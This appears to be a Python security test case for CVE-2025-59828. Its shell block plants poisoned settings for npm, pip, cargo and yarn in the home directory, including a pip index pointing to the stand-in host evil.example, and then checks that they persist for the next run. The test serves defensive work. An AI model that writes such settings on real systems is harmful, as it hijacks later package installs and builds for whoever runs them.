"""leaves settings of package managers in its home, for the next run"""

SHAPE = "CVE-2025-59828: yarnPath and plugins ran at yarn --version; npm's script-shell"
PROMISE = "P38"
ACT = """
mkdir -p ~/.config/pip ~/.cargo
echo 'script-shell=evil' > ~/.npmrc
printf '[global]\\nindex-url = http://evil.example/\\n' > ~/.config/pip/pip.conf
printf '[build]\\nrustc-wrapper = "evil"\\n' > ~/.cargo/config.toml
echo 'yarnPath: evil.js' > ~/.yarnrc.yml
"""
THEN = "cat ~/.npmrc ~/.config/pip/pip.conf ~/.cargo/config.toml ~/.yarnrc.yml"


def succeeded(host, done):
    return "evil" in done.out
